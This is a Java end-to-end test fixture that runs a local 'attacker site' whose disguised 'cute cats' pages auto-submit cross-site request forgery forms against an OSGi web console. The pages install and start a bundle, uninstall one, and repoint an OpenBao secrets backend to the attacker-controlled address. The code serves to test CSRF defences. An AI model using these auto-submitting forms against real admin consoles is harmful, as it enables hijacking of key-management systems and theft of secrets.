package org.openkcm.keystore.distribution;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.jar.Attributes;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;

/**
 * A real web site of another origin (JDK HTTP server on loopback) whose page, opened in the
 * operator's logged-in browser, fires, one page each, the attacks seen against the console:
 * reconfigure the OpenBao backend to an address it controls, install and start a bundle, uninstall
 * a bundle. It records every request it gets, so a test can tell whether the runtime ever sent it
 * something.
 */
final class AttackerSite implements AutoCloseable {
  static final String EVIL_BSN = "e2e.csrf.evil";
  private final HttpServer server;
  final List<String> requests = new CopyOnWriteArrayList<>();

  AttackerSite(String consoleBase, long uninstallBundleId) throws IOException {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 16);
    Map<String, String> pages = pages(consoleBase, uninstallBundleId);
    server.createContext(
        "/",
        exchange -> {
          requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
          byte[] body =
              pages
                  .getOrDefault(exchange.getRequestURI().getPath(), "")
                  .getBytes(StandardCharsets.UTF_8);
          exchange.getResponseHeaders().set("Content-Type", "text/html;charset=utf-8");
          exchange.sendResponseHeaders(
              body.length == 0 ? 404 : 200, body.length == 0 ? -1 : body.length);
          try (OutputStream out = exchange.getResponseBody()) {
            out.write(body);
          }
        });
    server.start();
  }

  int port() {
    return server.getAddress().getPort();
  }

  /** The address the attack points the OpenBao backend at. */
  String trapAddress() {
    return "http://127.0.0.1:" + port();
  }

  /**
   * One page per attack: each submits its form as a top-level navigation, which carries the
   * browser's login.
   */
  private Map<String, String> pages(String console, long bundleId) throws IOException {
    String jar = Base64.getEncoder().encodeToString(evilBundle());
    String head =
        "<!DOCTYPE html><html><head><title>cute cats</title></head><body><p>cute cats</p>";
    String install =
        head
            + "<form id='f' method='POST' enctype='multipart/form-data' action='"
            + console
            + "/system/console/bundles'>"
            + "<input name='action' value='install'><input name='bundlestart' value='start'><input name='bundlestartlevel' value='4'>"
            + "<input type='file' name='bundlefile' id='file'></form>"
            + "<script>const bytes=Uint8Array.from(atob('"
            + jar
            + "'),ch=>ch.charCodeAt(0));"
            + "const dt=new DataTransfer();dt.items.add(new File([bytes],'evil.jar',{type:'application/java-archive'}));"
            + "document.getElementById('file').files=dt.files;document.getElementById('f').submit();</script></body></html>";
    String uninstall =
        head
            + "<form id='f' method='POST' action='"
            + console
            + "/system/console/bundles/"
            + bundleId
            + "'>"
            + "<input name='action' value='uninstall'></form><script>document.getElementById('f').submit();</script></body></html>";
    String config =
        head
            + "<form id='f' method='POST' action='"
            + console
            + "/system/console/configMgr/org.openkcm.keystore.openbao'>"
            + "<input name='apply' value='true'><input name='action' value='ajaxConfigManager'>"
            + "<input name='propertylist' value='address,token'><input name='address' value='"
            + trapAddress()
            + "'>"
            + "<input name='token' value='attacker'></form><script>document.getElementById('f').submit();</script></body></html>";
    return Map.of("/install.html", install, "/uninstall.html", uninstall, "/config.html", config);
  }

  /**
   * @param host {@code localhost} (another site) or {@code 127.0.0.1} (same site, another origin)
   */
  String pageUrl(String host, String attack) {
    return "http://" + host + ":" + port() + "/" + attack + ".html";
  }

  private static byte[] evilBundle() throws IOException {
    Manifest m = new Manifest();
    Attributes a = m.getMainAttributes();
    a.put(Attributes.Name.MANIFEST_VERSION, "1.0");
    a.putValue("Bundle-ManifestVersion", "2");
    a.putValue("Bundle-SymbolicName", EVIL_BSN);
    a.putValue("Bundle-Version", "6.6.6");
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (JarOutputStream jar = new JarOutputStream(out, m)) {
      jar.flush();
    }
    return out.toByteArray();
  }

  @Override
  public void close() {
    server.stop(0);
  }
}
